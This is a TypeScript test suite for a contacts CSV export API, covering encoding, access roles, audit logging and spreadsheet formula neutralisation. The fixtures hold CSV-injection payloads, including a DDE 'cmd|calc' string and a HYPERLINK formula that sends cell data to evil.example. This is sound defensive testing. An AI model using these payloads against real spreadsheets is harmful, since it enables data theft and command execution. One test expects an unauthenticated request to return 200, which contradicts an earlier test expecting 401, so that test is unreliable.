import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { upsertContact } from '../../core/contacts/contacts.ts';
import { testApp, type TestApp } from '../support/app.ts';
import { csvBytes, importCsv, newKey, newTenant, type KeyInfo } from '../support/data.ts';

let app: TestApp;
let tenant: KeyInfo & { tenantId: string };
let admin: KeyInfo;

const PEOPLE = [
  { name: '欧阳娜娜', phone: '+86 138-0013-8000', e164: '+8613800138000', email: 'ouyang.nana@example.cn', tags: ['VIP', '华东'] },
  { name: 'Siobhán O’Connor', phone: '+353 85 123 4567', e164: '+353851234567', email: 'siobhan.oconnor@example.ie', tags: [] },
  { name: 'José "Pepe" García, Jr.', phone: '+34 612 345 678', e164: '+34612345678', email: 'pepe.garcia@example.es', tags: ['EU'] },
  { name: '=1+1', phone: '010-6552 9988', e164: '+861065529988', email: null, tags: [] },
  { name: '+SUM(A1:A9)', phone: '+1 (650) 253-0000', e164: '+16502530000', email: 'formula@example.com', tags: [] },
  { name: '@cmd', phone: '+81 90-1234-5678', e164: '+819012345678', email: null, tags: [] },
];

before(async () => {
  app = await testApp();
  tenant = await newTenant(app, 'Export Co');
  admin = await newKey(app, 'admin', tenant.key);
  for (const p of PEOPLE) {
    const res = await app.request('POST', '/v1/contacts', {
      key: tenant.key,
      body: { name: p.name, phone: p.phone, ...(p.email ? { email: p.email } : {}), tags: p.tags },
    });
    assert.equal(res.status, 201, res.text);
  }
  const imported = await importCsv(app, csvBytes(['姓名,手机号,邮箱', '"多行\n地址",15912345678,multi.line@example.cn']), { key: tenant.key });
  assert.deepEqual([imported.body.created, imported.body.rejected], [1, []], imported.text);
  const opt = await app.request('POST', '/v1/opt-outs', { key: tenant.key, body: { phone: '13800138000', channel: 'sms' } });
  assert.equal(opt.status, 201, opt.text);
});
after(() => app.close());

/** GET /v1/exports/contacts; `text` is the body decoded as it is, BOM included (fetch's text() drops it). */
async function exportAs(key: string) {
  const res = await fetch(`${app.url}/v1/exports/contacts`, { headers: { authorization: `Bearer ${key}` } });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  const body = /json/.test(res.headers.get('content-type') ?? '') ? JSON.parse(text) : text;
  return { status: res.status, headers: res.headers, text, body };
}

function rowsOf(text: string): Record<string, string>[] {
  assert.ok(text.startsWith('\uFEFF'), 'a BOM so Excel reads CJK text');
  return parse(text, { bom: true, columns: true, skip_empty_lines: true });
}

test('an admin export is a CSV with one decrypted line per contact', async () => {
  const res = await exportAs(admin.key);
  assert.equal(res.status, 200, res.text);
  assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
  assert.match(res.headers.get('content-disposition') ?? '', /attachment; filename="?contacts-\d{4}-\d{2}-\d{2}\.csv"?$/);
  const header = res.text.slice(1).split('\r\n')[0]!.split(',');
  for (const column of ['id', 'name', 'phone', 'email', 'tags', 'opted_out_voice', 'opted_out_sms']) assert.ok(header.includes(column), column);

  const rows = rowsOf(res.text);
  assert.equal(rows.length, PEOPLE.length + 1, 'one line per contact, however many lines a cell spans');
  assert.equal(new Set(rows.map((r) => r.id)).size, rows.length);
  const byPhone = new Map(rows.map((r) => [r.phone, r]));
  for (const p of ['欧阳娜娜', 'Siobhán O’Connor', 'José "Pepe" García, Jr.']) {
    const person = PEOPLE.find((x) => x.name === p)!;
    const row = byPhone.get(person.e164);
    assert.ok(row, `${person.e164} exported`);
    assert.equal(row.name, person.name);
    assert.equal(row.email, person.email);
    assert.deepEqual(row.tags ? row.tags.split(';').sort() : [], [...person.tags].sort());
  }
  assert.equal(byPhone.get('+8615912345678')?.name, '多行\n地址');
  assert.equal(byPhone.get('+8613800138000')?.opted_out_sms, 'true');
  assert.equal(byPhone.get('+8613800138000')?.opted_out_voice, 'false');
  assert.equal(byPhone.get('+861065529988')?.email, '');
});

test('formula-like text is neutralised, phone numbers are not', async () => {
  const rows = rowsOf((await exportAs(admin.key)).text);
  const byPhone = new Map(rows.map((r) => [r.phone, r]));
  assert.equal(byPhone.get('+861065529988')?.name, "'=1+1");
  assert.equal(byPhone.get('+16502530000')?.name, "'+SUM(A1:A9)");
  assert.equal(byPhone.get('+819012345678')?.name, "'@cmd");
  for (const r of rows) {
    assert.match(r.phone!, /^\+\d{8,15}$/, 'the phone stays a plain E.164 number');
    for (const [column, value] of Object.entries(r)) {
      if (column !== 'phone') assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} starts like a formula: ${value}`);
    }
  }
});

test('operator and viewer keys may not export', async () => {
  for (const role of ['operator', 'viewer'] as const) {
    const { key } = await newKey(app, role, tenant.key);
    const res = await exportAs(key);
    assert.equal(res.status, 403, `${role}: ${res.status}`);
    assert.equal(res.body.code, 'FORBIDDEN');
    assert.doesNotMatch(res.text, /8613800138000|欧阳娜娜/);
  }
  const none = await app.request('GET', '/v1/exports/contacts', { key: null });
  assert.equal(none.status, 401);
});

test('each export appends an audit entry naming the exporting key and the row count', async () => {
  const auditOf = async () => {
    const res = await app.request('GET', '/v1/audit-log?limit=500', { key: tenant.key });
    assert.equal(res.status, 200, res.text);
    return (res.body.items as { action: string; actorKeyId: string; details: Record<string, unknown> }[]).filter((e) => e.action === 'contacts.export');
  };
  const before = await auditOf();
  await exportAs(admin.key);
  await exportAs(tenant.key);
  const denied = await newKey(app, 'operator', tenant.key);
  await exportAs(denied.key);
  const entries = (await auditOf()).slice(before.length);
  assert.deepEqual(
    entries.map((e) => [e.actorKeyId, e.details.rows, e.details.completed]),
    [
      [admin.id, PEOPLE.length + 1, true],
      [tenant.id, PEOPLE.length + 1, true],
    ],
  );
  assert.ok(
    entries.every((e) => !JSON.stringify(e).includes('8613800138000')),
    'no PII in the audit log',
  );

  const viewer = await newKey(app, 'viewer', tenant.key);
  const forbidden = await app.request('GET', '/v1/audit-log', { key: viewer.key });
  assert.equal(forbidden.status, 403);
  // Another tenant's export is not in this tenant's log.
  const other = await app.request('GET', '/v1/exports/contacts');
  assert.equal(other.status, 200);
  assert.equal((await auditOf()).length, before.length + 2);
});

test('a CRM number kept as typed cannot smuggle a formula into the phone column', async () => {
  const crmTenant = await newTenant(app, 'CRM formulas');
  const typed = ['=HYPERLINK("http://evil.example/?q="&A1,"call")', '@SUM(1+1)', '-2+3+cmd|calc!A0', '+86 138 0013 80xx'];
  for (const [i, phone] of typed.entries()) {
    const { contact } = await upsertContact(
      app.deps,
      crmTenant.tenantId,
      { name: `CRM ${i}`, phone, crm: { system: 'salesforce', externalId: `003${i}` } },
      'crm',
    );
    assert.equal(contact.phoneValid, false, phone);
  }
  const rows = rowsOf((await exportAs(crmTenant.key)).text);
  assert.equal(rows.length, typed.length);
  for (const r of rows) {
    assert.equal(r.phone_valid, 'false');
    assert.ok(typed.includes(r.phone!.replace(/^'/, '')), `the number is still readable: ${r.phone}`);
  }
  const formulas = rows.filter((r) => /^[=+\-@\t\r]/.test(r.phone!)).map((r) => r.phone);
  assert.deepEqual(formulas, [], 'phone cells a spreadsheet would run as formulas');
});
